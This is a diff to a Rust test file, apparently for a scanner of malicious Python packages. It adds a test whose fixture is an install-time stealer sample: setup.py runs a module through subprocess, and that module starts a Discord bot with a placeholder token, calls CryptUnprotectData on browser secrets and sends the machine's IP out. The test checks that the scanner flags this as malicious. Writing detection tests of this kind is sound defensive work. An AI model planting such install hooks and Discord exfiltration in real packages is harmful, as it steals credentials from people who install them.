@@ -701,3 +701,28 @@ fn secret_looking_environment_variables_pasted_to_a_paste_site_are_malicious() {
     let r = sdist(&[("setup.py", SETUP), ("pkg/impl.py", client)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn a_module_setup_py_runs_with_python_m_is_read_as_install_time() {
+    // codigosintaxis: setup.py runs `python -m syntax`, whose __main__.py
+    // starts a Discord bot (a hard-coded token) that steals browser secrets.
+    // The token below has the shape of one and is not real.
+    let token = "OTAwMDAwMDAwMDAwMDAwMDAw.GAAAAA.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+    let setup = "import subprocess\nfrom setuptools import setup\nsetup(name='pkg', packages=['syntax'])\nsubprocess.run(['python', '-m', 'syntax'])\n";
+    let main = format!(
+        "import socket, win32crypt\nfrom discord.ext import commands\nbot = commands.Bot(command_prefix='!')\n\n@bot.command()\nasync def grab(ctx):\n    key = win32crypt.CryptUnprotectData(b'x', None, None, None, 0)\n    await ctx.send(socket.gethostbyname(socket.gethostname()))\n\nbot.run('{token}')\n"
+    );
+    let r = sdist(&[
+        ("setup.py", setup),
+        ("syntax/__init__.py", ""),
+        ("syntax/__main__.py", &main),
+    ]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert!(
+        r.findings.iter().any(|f| f.code == "custody::drop-box"
+            && f.path.ends_with("syntax/__main__.py")
+            && f.phase == custody_inspect::analysis::Phase::Install),
+        "{:#?}",
+        r.findings
+    );
+}
